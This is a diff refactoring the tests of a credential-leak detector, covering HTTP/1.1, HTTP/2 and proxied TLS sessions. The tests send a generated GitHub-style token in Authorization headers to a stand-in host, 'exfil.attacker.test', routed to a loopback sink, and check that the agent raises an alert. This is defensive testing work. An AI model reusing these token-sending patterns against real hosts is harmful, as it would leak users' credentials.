@@ -11,8 +11,9 @@ import tempfile
 import threading
 import time
 
-from cwtest import (Agent, BufferedWriter, Skip, github_token, h2_frame, h2_streams,
-                    hpack_literal, kernel_map, require_root, wait_until)
+from cwtest import (Agent, BufferedWriter, LoopbackServer, Skip, assert_copying_stopped,
+                    conn_entry, github_token, h2_frame, h2_streams, hpack_literal, kernel_map,
+                    require_root, wait_until)
 
 EVIL = "exfil.attacker.test"
 
@@ -186,7 +187,8 @@ curl.curl_easy_perform.argtypes = [ctypes.c_void_p]
 URL, HTTPHEADER, VERIFYPEER, VERIFYHOST, RESOLVE, WRITEDATA = 10002, 10023, 64, 81, 10203, 10001
 h = curl.curl_easy_init()
 host, port = sys.argv[1], sys.argv[2]
-curl.curl_easy_setopt(h, URL, ctypes.c_char_p(b"https://%s:%s/v1" % (host.encode(), port.encode())))
+url = b"https://%s:%s/v1" % (host.encode(), port.encode())
+curl.curl_easy_setopt(h, URL, ctypes.c_char_p(url))
 curl.curl_easy_setopt(h, RESOLVE, ctypes.c_void_p(curl.curl_slist_append(
     None, b"%s:%s:127.0.0.1" % (host.encode(), port.encode()))))
 token = sys.stdin.readline().strip().encode()	# not in argv
@@ -592,31 +594,26 @@ def test_library_is_probed_when_it_is_opened():
         shutil.rmtree(d, ignore_errors=True)
 
 
-class TlsSink:
-    """A TLS server in this process that reads whatever comes, connection after connection."""
+class TlsSink(LoopbackServer):
+    """A TLS server in this process that reads whatever comes, on every connection."""
 
     def __init__(self):
         self.dir = tempfile.mkdtemp(prefix="cw-tls-")
         cert, key = self_signed(self.dir)
         self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
         self.ctx.load_cert_chain(cert, key)
-        self.sock = socket.create_server(("127.0.0.1", 0))
-        self.port = self.sock.getsockname()[1]
-        threading.Thread(target=self._serve, daemon=True).start()
+        super().__init__()
 
-    def _serve(self):
-        while True:
-            try:
-                raw, _ = self.sock.accept()
-                with self.ctx.wrap_socket(raw, server_side=True) as c:
-                    while c.recv(65536):
-                        pass
-            except (OSError, ssl.SSLError):
-                if self.sock.fileno() < 0:
-                    return
+    def handle(self, raw):
+        try:
+            with self.ctx.wrap_socket(raw, server_side=True) as c:
+                while c.recv(65536):
+                    pass
+        except (OSError, ssl.SSLError):
+            raw.close()
 
     def close(self):
-        self.sock.close()
+        super().close()
         shutil.rmtree(self.dir, ignore_errors=True)
 
 
@@ -654,11 +651,10 @@ def test_credential_on_a_connection_that_stays_open_is_alerted_while_it_is_open(
     agent.assert_no_plaintext(token)
 
 
-def test_request_in_one_large_write_with_its_body_after_others_like_it():
-    """curl sends a request's headers and a --data body under 64 KiB in one write: on a
-    keep-alive connection each request is one large SSL_write right after the previous
-    request's. Past the payload budget such a write still starts with a request line, so it is
-    not taken for the middle of a bulk transfer: the token in the last request is found."""
+def _tls_session(send):
+    """A client session over TLS to a loopback sink (server name EVIL): send(sock, token,
+    authority) writes it, authority being an HPACK :authority field for h2. Asserts that exactly the token is alerted on, from OpenSSL, with the
+    server name, and never in plaintext; returns the stopped agent."""
     require_root()
     agent = Agent("--include-loopback")
     sink = TlsSink()
@@ -667,49 +663,7 @@ def test_request_in_one_large_write_with_its_body_after_others_like_it():
     try:
         s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
                                      server_hostname=EVIL)
-        body = b"z" * (96 << 10)
-        # at most 16 KiB (the payload cap) of each write counts: the 64 KiB budget is spent
-        # after four, and the last two are past it
-        for auth in ["none"] * 5 + ["token " + token]:
-            s.sendall(b"PUT /blob HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\n"
-                      b"Content-Length: %d\r\n\r\n" % (EVIL.encode(), auth.encode(), len(body))
-                      + body)
-        fp = agent.key.fingerprint(token)
-        hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination" and
-                              l["credential"]["fingerprint"] == fp, timeout=5)
-    finally:
-        if s:
-            s.close()
-        agent.stop()
-        sink.close()
-    assert len(hits) == 1, agent.stderr()
-    assert hits[0]["tls"]["library"] == "openssl"
-    holes = int(agent.stderr().split(" holes past the payload budget")[0].split("(")[-1])
-    assert holes >= 1, agent.stderr()
-    agent.assert_no_plaintext(token)
-
-
-def test_h2_headers_after_the_last_data_frame_in_one_tls_write():
-    """An h2 client over TLS writes an upload's last DATA frame and the next request's HEADERS
-    frame in one SSL_write. Past the payload budget the kernel finds the HEADERS frame behind
-    the DATA frame and copies that frame alone: the token after a long cookie is found."""
-    require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
-    token = github_token()
-    s = None
-    try:
-        s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
-                                     server_hostname=EVIL)
-        authority = hpack_literal(b":authority", EVIL.encode())
-        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
-        s.sendall(h2_frame(1, 4, 1, authority))
-        for _ in range(20):
-            s.sendall(h2_frame(0, 0, 1, b"u" * 16384))
-        request = h2_frame(1, 5, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
-                           hpack_literal(b"authorization", b"token " + token.encode()))
-        s.sendall(h2_frame(0, 1, 1, b"u" * 16384) + request)
+        send(s, token, hpack_literal(b":authority", EVIL.encode()))
         fp = agent.key.fingerprint(token)
         hits = agent.wait_for(lambda l: l["event"]["action"] ==
                               "credential-unexpected-destination" and
@@ -723,22 +677,48 @@ def test_h2_headers_after_the_last_data_frame_in_one_tls_write():
     assert hits[0]["tls"]["library"] == "openssl"
     assert hits[0]["destination"]["domain"] == EVIL
     agent.assert_no_plaintext(token)
+    return agent
+
+
+def test_request_in_one_large_write_with_its_body_after_others_like_it():
+    """curl sends a request's headers and a --data body under 64 KiB in one write: on a
+    keep-alive connection each request is one large SSL_write right after the previous
+    request's. Past the payload budget such a write still starts with a request line, so it is
+    not taken for the middle of a bulk transfer: the token in the last request is found."""
+    def send(s, token, _):
+        body = b"z" * (96 << 10)
+        # at most 16 KiB (the payload cap) of each write counts: the 64 KiB budget is spent
+        # after four, and the last two are past it
+        for auth in ["none"] * 5 + ["token " + token]:
+            s.sendall(b"PUT /blob HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\n"
+                      b"Content-Length: %d\r\n\r\n" % (EVIL.encode(), auth.encode(), len(body))
+                      + body)
+    agent = _tls_session(send)
+    holes = int(agent.stderr().split(" holes past the payload budget")[0].split("(")[-1])
+    assert holes >= 1, agent.stderr()
+
+
+def test_h2_headers_after_the_last_data_frame_in_one_tls_write():
+    """An h2 client over TLS writes an upload's last DATA frame and the next request's HEADERS
+    frame in one SSL_write. Past the payload budget the kernel finds the HEADERS frame behind
+    the DATA frame and copies that frame alone: the token after a long cookie is found."""
+    def send(s, token, authority):
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+        s.sendall(h2_frame(1, 4, 1, authority))
+        for _ in range(20):
+            s.sendall(h2_frame(0, 0, 1, b"u" * 16384))
+        request = h2_frame(1, 5, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
+                           hpack_literal(b"authorization", b"token " + token.encode()))
+        s.sendall(h2_frame(0, 1, 1, b"u" * 16384) + request)
+    _tls_session(send)
 
 
 def test_h2_frames_followed_across_tls_writes_cut_anywhere():
     """An h2 client over TLS that writes through a 4 KiB buffer (Go's bufio.Writer): past the
     payload budget a request's HEADERS frame starts in the middle of one SSL_write and ends in
     the next; the kernel, following the session's frames from its preface, copies it."""
-    require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
-    token = github_token()
-    s = None
-    try:
-        s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
-                                     server_hostname=EVIL)
+    def send(s, token, authority):
         w = BufferedWriter(s, 4096)
-        authority = hpack_literal(b":authority", EVIL.encode())
         w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
         w.write(h2_frame(1, 4, 1, authority))
         for _ in range(60):
@@ -747,21 +727,9 @@ def test_h2_frames_followed_across_tls_writes_cut_anywhere():
                          hpack_literal(b"authorization", b"token " + token.encode())))
         w.write(h2_frame(0, 1, 3, b"v" * 3000))
         w.flush()
-        fp = agent.key.fingerprint(token)
-        hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination" and
-                              l["credential"]["fingerprint"] == fp, timeout=5)
-    finally:
-        if s:
-            s.close()
-        agent.stop()
-        sink.close()
-    assert len(hits) == 1, agent.stderr()
-    assert hits[0]["tls"]["library"] == "openssl"
-    assert hits[0]["destination"]["domain"] == EVIL
+    agent = _tls_session(send)
     followed, lost = h2_streams(agent)
     assert followed >= 1 and lost == 0, agent.stderr()
-    agent.assert_no_plaintext(token)
 
 
 def test_tcp_capture_of_a_tls_connection_stops_after_its_client_hello():
@@ -776,38 +744,24 @@ def test_tcp_capture_of_a_tls_connection_stops_after_its_client_hello():
         s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
                                      server_hostname=EVIL)
         s.sendall(b"z" * (256 << 10))
-        me, fd = os.getpid(), s.fileno()
-        entry = [e["value"] for e in kernel_map(agent, "conns")
-                 if (e["key"]["tgid"], e["key"]["fd"]) == (me, fd)]
+        entry = conn_entry(agent, s)
     finally:
         if s:
             s.close()
         agent.stop()
         sink.close()
-    assert len(entry) == 1, entry
-    assert entry[0]["conn"]["flags"] & 2, entry	# CW_CONN_NO_PAYLOAD
     # the ClientHello, not a single 16 KiB TLS record of the ciphertext
-    assert entry[0]["conn"]["budget"]["captured"] < 4096, entry
+    assert_copying_stopped(entry)
 
 
-class ConnectProxy:
+class ConnectProxy(LoopbackServer):
     """An HTTP CONNECT proxy on loopback that tunnels every request to one local port,
     whatever host it names, and keeps the requests it was sent."""
 
     def __init__(self, to_port):
         self.to_port = to_port
         self.requests = []
-        self.sock = socket.create_server(("127.0.0.1", 0))
-        self.port = self.sock.getsockname()[1]
-        threading.Thread(target=self._serve, daemon=True).start()
-
-    def _serve(self):
-        while True:
-            try:
-                c, _ = self.sock.accept()
-            except OSError:
-                return
-            threading.Thread(target=self._tunnel, args=(c,), daemon=True).start()
+        super().__init__()
 
     @staticmethod
     def _pipe(a, b):
@@ -839,7 +793,7 @@ class ConnectProxy:
     def _established(self, c):
         c.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
 
-    def _tunnel(self, c):
+    def handle(self, c):
         if not self._handshake(c):
             c.close()
             return
@@ -849,9 +803,6 @@ class ConnectProxy:
         self._pipe(c, up)
         c.close()
         up.close()
-
-    def close(self):
-        self.sock.close()
 
 
 class Socks5Proxy(ConnectProxy):
@@ -979,19 +930,15 @@ def test_tcp_capture_of_a_tunnel_stops_after_its_client_hello():
         assert raw.recv(4096).startswith(b"HTTP/1.1 200")
         s = client_ctx().wrap_socket(raw, server_hostname=EVIL)
         s.sendall(b"z" * (256 << 10))
-        me, fd = os.getpid(), s.fileno()
-        entry = [e["value"] for e in kernel_map(agent, "conns")
-                 if (e["key"]["tgid"], e["key"]["fd"]) == (me, fd)]
+        entry = conn_entry(agent, s)
     finally:
         if s:
             s.close()
         agent.stop()
         proxy.close()
         sink.close()
-    assert len(entry) == 1, entry
-    assert entry[0]["conn"]["flags"] & 2, entry	# CW_CONN_NO_PAYLOAD
     # the CONNECT request and the ClientHello, not the ciphertext's 64 KiB payload budget
-    assert entry[0]["conn"]["budget"]["captured"] < 4096, entry
+    assert_copying_stopped(entry)
 
 
 def test_ended_session_leaves_no_payload_budget_behind():
